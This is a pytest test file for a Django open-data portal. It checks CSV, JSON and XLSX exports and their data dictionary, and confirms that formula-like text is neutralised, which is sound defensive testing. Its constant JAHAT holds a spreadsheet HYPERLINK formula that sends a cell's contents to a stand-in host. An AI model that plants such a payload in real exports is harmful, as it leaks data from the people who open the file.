"""Open data of the portal: CSV (with kamus.json), JSON and XLSX hold the tables and their data
dictionary; text that a spreadsheet would run as a formula is neutralised."""

import csv
import io
import json

import pytest
from django.test import Client
from openpyxl import load_workbook

from perencanaan.models import Indikator
from portal.ekspor import TABEL, kamus

pytestmark = pytest.mark.django_db

UNIT = "/publik/kota-bekasi/bantargebang/"
JAHAT = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'


def _csv(r):
    assert r.status_code == 200 and r["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_csv_tables_and_their_dictionary(demo):
    c = Client()
    k = c.get(UNIT + "data/kamus.json").json()
    assert set(k["tabel"]) == set(TABEL) and k["tabel"]["capaian"] == "capaian.csv"
    for tabel in TABEL:
        baris = _csv(c.get(f"{UNIT}data/{tabel}.csv?tahun=2024"))
        assert baris[0] == list(k["kamus"][tabel]["kolom"]), tabel  # every column is described
        assert all(k["kamus"][tabel]["kolom"].values())
    capaian = _csv(c.get(UNIT + "data/capaian.csv?tahun=2024"))
    kolom = capaian[0]
    iku1 = dict(zip(kolom, capaian[1], strict=True))
    assert (iku1["kode"], iku1["target"], iku1["realisasi"], iku1["capaian"], iku1["iku"]) == (
        "IKU1",
        "83",
        "81.18",
        "97.8",
        "true",
    )
    anggaran = _csv(c.get(UNIT + "data/anggaran.csv?tahun=2024"))
    assert anggaran[-1][3:] == ["TOTAL", "23459734760", "22297765191", "95.05"]
    assert c.get(UNIT + "data/rahasia.csv").status_code == 404


def test_json_holds_tables_and_dictionary(demo):
    data = Client().get(UNIT + "data.json?tahun=2024").json()
    assert data["instansi"] == "bantargebang" and data["tahun"] == [2020, 2021, 2022, 2023, 2024]
    assert set(TABEL) <= set(data) and set(data["kamus"]) == set(TABEL)
    for tabel in TABEL:
        for baris in data[tabel]:
            assert set(baris) == set(data["kamus"][tabel]["kolom"]), tabel


def test_xlsx_has_a_sheet_per_table_and_the_dictionary(demo):
    r = Client().get(UNIT + "data.xlsx?tahun=2024")
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == [*TABEL, "kamus"]
    ws = wb["capaian"]
    kepala = [c.value for c in ws[1]]
    assert kepala == list(kamus()["capaian"]["kolom"])
    nilai = [c.value for c in ws[2]]
    assert nilai[kepala.index("capaian")] == 97.8 and nilai[kepala.index("target")] == 83
    arti = {(r[0], r[1]): r[2] for r in wb["kamus"].iter_rows(min_row=2, values_only=True)}
    for tabel in TABEL:
        assert arti[(tabel, None)] or arti.get((tabel, ""))
        for kol in kamus()[tabel]["kolom"]:
            assert arti[(tabel, kol)], (tabel, kol)


def test_formula_like_text_is_neutralised(demo):
    Indikator.objects.filter(instansi=demo, kode="IKU1").update(nama=JAHAT, satuan="@SUM(1+1)")
    Indikator.objects.filter(instansi=demo, kode="IKU2").update(nama="+1-2", satuan="-3")
    from tembolok.services import usangkan

    usangkan([demo.id])  # a bulk update sends no signal
    c = Client()
    capaian = _csv(c.get(UNIT + "data/capaian.csv?tahun=2024"))
    kolom = capaian[0]
    rows = [dict(zip(kolom, b, strict=True)) for b in capaian[1:]]
    assert rows[0]["indikator"] == "'" + JAHAT and rows[0]["satuan"] == "'@SUM(1+1)"
    assert rows[1]["indikator"] == "'+1-2" and rows[1]["satuan"] == "'-3"
    assert rows[0]["capaian"] == "97.8"  # numbers are numbers
    ws = load_workbook(io.BytesIO(c.get(UNIT + "data.xlsx?tahun=2024").content))["capaian"]
    kepala = [x.value for x in ws[1]]
    sel = ws.cell(row=2, column=kepala.index("indikator") + 1)
    assert sel.value == JAHAT and sel.data_type == "s" and sel.quotePrefix
    sel = ws.cell(row=3, column=kepala.index("satuan") + 1)
    assert sel.value == "-3" and sel.data_type == "s" and sel.quotePrefix
    assert json.loads(c.get(UNIT + "data.json?tahun=2024").content)["capaian"][0]["indikator"] == JAHAT
